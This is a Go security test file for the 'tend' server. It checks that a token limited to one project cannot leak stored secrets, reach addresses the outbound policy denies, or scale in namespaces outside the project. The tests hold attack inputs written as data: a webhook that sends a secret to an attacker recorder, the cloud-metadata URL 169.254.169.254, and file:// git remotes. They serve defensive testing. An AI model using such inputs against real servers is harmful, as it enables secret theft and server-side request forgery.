// Package outbound tests, against the real tend binary, that a token
// restricted to a project cannot make tend send the project's secrets to
// an address of its choosing, reach addresses the outbound policy denies,
// push into a repository on the server's disk, or scale outside the
// project's namespaces (issue 12, points 4, 5 and 7).
package outbound

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tendhq/tend/internal/apitypes"
	"github.com/tendhq/tend/internal/client"
	"github.com/tendhq/tend/internal/testenv/tendapi"
	"github.com/tendhq/tend/internal/testenv/tendproc"
)

var tendBin string

func TestMain(m *testing.M) { os.Exit(tendproc.Main(m, "outbound", &tendBin)) }

const project = "shop"

// recorder is an HTTP server that records the Authorization header of
// every request it gets.
type recorder struct {
	srv  *httptest.Server
	mu   sync.Mutex
	auth []string
}

func newRecorder(t testing.TB) *recorder {
	r := &recorder{}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.auth = append(r.auth, req.Header.Get("Authorization"))
		r.mu.Unlock()
		http.NotFound(w, req)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *recorder) seen() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.auth...)
}

// server starts tend serve with cfg as tend.yaml (with the kubernetes
// section: namespaces) and returns an admin client and a write client
// restricted to the project, which it creates with services carts and
// orders.
func server(t *testing.T, cfg, namespaces string) (admin, write *client.Client) {
	t.Helper()
	base := "remediation:\n  settling: 1s\n  limits: {cooldown: 0, maxActionsPerHour: 0}\nkubernetes: {disabled: true, namespaces: {" + namespaces + "}}\nworker: {pollInterval: 100ms}\n"
	s := tendapi.Start(t, tendBin, base+cfg)
	admin = s.AdminClient(t)
	ctx := context.Background()
	if _, err := admin.CreateProject(ctx, apitypes.CreateProjectRequest{Name: project, Shipyard: tendapi.Shipyard}); err != nil {
		t.Fatal(err)
	}
	for _, svc := range []string{"carts", "orders"} {
		if _, err := admin.CreateService(ctx, project, svc); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := admin.CreateToken(ctx, apitypes.CreateTokenRequest{Name: "shop-writer", Scope: "write", Project: project})
	if err != nil {
		t.Fatal(err)
	}
	return admin, s.Client(t, tok.Token)
}

// remediate uploads a remediation file for service with w, fires its alert
// and waits until the remediation ended.
func remediate(t *testing.T, w *client.Client, service, remediation string) apitypes.Remediation {
	t.Helper()
	ctx := context.Background()
	ref := client.ResourceRef{Project: project, Stage: "production", Service: service}
	if _, err := w.PutResources(ctx, ref, []client.ResourceFile{{URI: "slo.yaml", Content: []byte(tendapi.SLO)}, {URI: "remediation.yaml", Content: []byte(remediation)}}); err != nil {
		t.Fatal(err)
	}
	tendapi.Fire(t, w, project, "production", service, "")
	deadline := time.Now().Add(time.Minute)
	for {
		rs, err := w.ListRemediations(ctx, client.ProblemFilter{Project: project})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rs {
			if r.Service == service && !r.Running && len(r.Actions) > 0 {
				return r
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("the remediation of %s did not end within a minute: %+v", service, rs)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestStoredSecretsStayWithTheirEndpoint is the attack of issue 12 point
// 4: an admin configures the project's Unleash and a webhook secret; a
// write token restricted to the project points a service's Unleash URL,
// and a webhook, at a server it controls without giving the secrets. The
// next actions must not send the secrets there.
func TestStoredSecretsStayWithTheirEndpoint(t *testing.T) {
	admin, write := server(t, "", "")
	ctx := context.Background()
	real, attacker := newRecorder(t), newRecorder(t)
	const unleashToken, hookSecret = "project-unleash-admin-token", "project-webhook-secret"

	if _, err := admin.PutSetting(ctx, project, "unleash", apitypes.UnleashConfig{URL: real.srv.URL, Token: unleashToken}); err != nil {
		t.Fatal(err)
	}
	if _, err := write.PutSetting(ctx, project, "unleash", apitypes.UnleashConfig{URL: attacker.srv.URL, Service: "carts"}); err != nil {
		t.Fatalf("a write token may still set a service's Unleash URL: %v", err)
	}
	remediate(t, write, "carts", `apiVersion: spec.keptn.sh/0.1.4
kind: Remediation
metadata: {name: carts}
spec:
  remediations:
    - problemType: response_time_p90
      actionsOnOpen:
        - {name: Toggle, action: toggle-feature, value: {EnablePromotion: "off"}}
`)

	if _, err := admin.PutSecret(ctx, project, "hook_token", hookSecret, real.srv.URL+"/hook"); err != nil {
		t.Fatal(err)
	}
	remediate(t, write, "orders", fmt.Sprintf(`apiVersion: spec.keptn.sh/0.1.4
kind: Remediation
metadata: {name: orders}
spec:
  remediations:
    - problemType: response_time_p90
      actionsOnOpen:
        - name: Collect
          action: webhook
          value:
            url: %s/collect
            headers: {Authorization: "Bearer {{ .Secrets.hook_token }}"}
`, attacker.srv.URL))

	for _, a := range attacker.seen() {
		if strings.Contains(a, unleashToken) || strings.Contains(a, hookSecret) {
			t.Errorf("the attacker's server received the project's secret: Authorization %q", a)
		}
	}
	if got := real.seen(); len(got) != 0 {
		t.Errorf("the real servers were called %d times; the actions named other URLs", len(got))
	}
}

// TestOutboundPolicy: addresses are checked when they are stored (400
// naming the field and the rule) and when tend connects (a name that
// resolves to a denied address); loopback stays allowed by default.
func TestOutboundPolicy(t *testing.T) {
	// localhost resolves to loopback, which this server denies.
	admin, write := server(t, "outbound:\n  deny: [127.0.0.0/8, '::1']\n", "")
	ctx := context.Background()
	target := newRecorder(t)
	local := filepath.Join(t.TempDir(), "upstream.git")

	for _, tt := range []struct {
		name string
		put  func() error
		want string
	}{
		{"metadata Unleash", func() error {
			_, err := write.PutSetting(ctx, project, "unleash", apitypes.UnleashConfig{URL: "http://169.254.169.254/latest", Token: "x"})
			return err
		}, "url http://169.254.169.254/latest: 169.254.169.254 is denied by tend's outbound policy (rule 169.254.169.254, cloud metadata"},
		{"denied loopback monitoring", func() error {
			_, err := write.PutMonitoring(ctx, project, apitypes.MonitoringConfig{Provider: "prometheus", URL: target.srv.URL})
			return err
		}, "rule 127.0.0.0/8, outbound.deny"},
		{"file upstream", func() error {
			_, err := admin.CreateProject(ctx, apitypes.CreateProjectRequest{Name: "other", Shipyard: tendapi.Shipyard, GitRemoteURL: "file://" + local})
			return err
		}, "gitRemoteURL"},
		{"local path upstream", func() error {
			_, err := admin.CreateProject(ctx, apitypes.CreateProjectRequest{Name: "other", Shipyard: tendapi.Shipyard, GitRemoteURL: local})
			return err
		}, "is a local path or file:// URL"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.put()
			var ae *client.APIError
			if !errors.As(err, &ae) || ae.Status != http.StatusBadRequest || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("err = %v; want 400 with %q", err, tt.want)
			}
		})
	}
	if _, err := os.Stat(local); !os.IsNotExist(err) {
		t.Errorf("tend created the local upstream: %v", err)
	}

	// Stored by name, refused at connection time: localhost resolves to
	// a denied address, and the scale target is never called.
	hostURL := strings.Replace(target.srv.URL, "127.0.0.1", "localhost", 1)
	if _, err := write.PutSetting(ctx, project, "kubernetes", apitypes.KubernetesConfig{ScaleURL: hostURL + "/scale", Service: "carts"}); err != nil {
		t.Fatalf("a host name is checked when tend connects, not when stored: %v", err)
	}
	r := remediate(t, write, "carts", `apiVersion: spec.keptn.sh/0.1.4
kind: Remediation
metadata: {name: carts}
spec:
  remediations:
    - problemType: response_time_p90
      actionsOnOpen:
        - {name: Scale up, action: scaling, value: "+1"}
`)
	if got := target.seen(); len(got) != 0 {
		t.Errorf("the denied scale target was called %d times", len(got))
	}
	if !strings.Contains(fmt.Sprint(r), "denied by tend's outbound policy") {
		t.Errorf("the remediation does not say the policy refused the address: %+v", r)
	}
}

// TestLoopbackAllowedByDefault: the demo and the tests run everything on
// 127.0.0.1, which the default policy allows.
func TestLoopbackAllowedByDefault(t *testing.T) {
	_, write := server(t, "", "")
	target := newRecorder(t)
	if _, err := write.PutMonitoring(context.Background(), project, apitypes.MonitoringConfig{Provider: "prometheus", URL: target.srv.URL}); err != nil {
		t.Fatal(err)
	}
	if _, err := write.PutSetting(context.Background(), project, "unleash", apitypes.UnleashConfig{URL: "http://localhost:4242", Token: "t"}); err != nil {
		t.Fatal(err)
	}
}

// TestScalingNamespaceStaysInTheProject is issue 12 point 7: a write token
// restricted to the project may point scaling at the project's own
// namespaces (<project>-<stage>, and those tend.yaml lists), not at
// kube-system; an unrestricted admin token may.
func TestScalingNamespaceStaysInTheProject(t *testing.T) {
	admin, write := server(t, "", "shop: [shop-canary]")
	ctx := context.Background()
	put := func(c *client.Client, ns, stage string) error {
		_, err := c.PutSetting(ctx, project, "kubernetes", apitypes.KubernetesConfig{Namespace: ns, Stage: stage, Service: "carts"})
		return err
	}
	for _, tt := range []struct {
		name      string
		c         *client.Client
		ns, stage string
		status    int
	}{
		{"restricted token, kube-system", write, "kube-system", "", http.StatusForbidden},
		{"restricted token, kube-system in a stage", write, "kube-system", "production", http.StatusForbidden},
		{"restricted token, another project's namespace", write, "bank-production", "production", http.StatusForbidden},
		{"restricted token, the project's stage namespace", write, "shop-production", "production", 0},
		{"restricted token, the stage namespace for every stage", write, "shop-production", "", 0},
		{"restricted token, a namespace tend.yaml lists", write, "shop-canary", "", 0},
		{"admin token, kube-system", admin, "kube-system", "", 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := put(tt.c, tt.ns, tt.stage)
			if tt.status == 0 {
				if err != nil {
					t.Fatalf("err = %v; want the namespace stored", err)
				}
				return
			}
			var ae *client.APIError
			if !errors.As(err, &ae) || ae.Status != tt.status || !strings.Contains(err.Error(), "unrestricted admin token") {
				t.Fatalf("err = %v; want %d saying an admin token is needed", err, tt.status)
			}
		})
	}
}
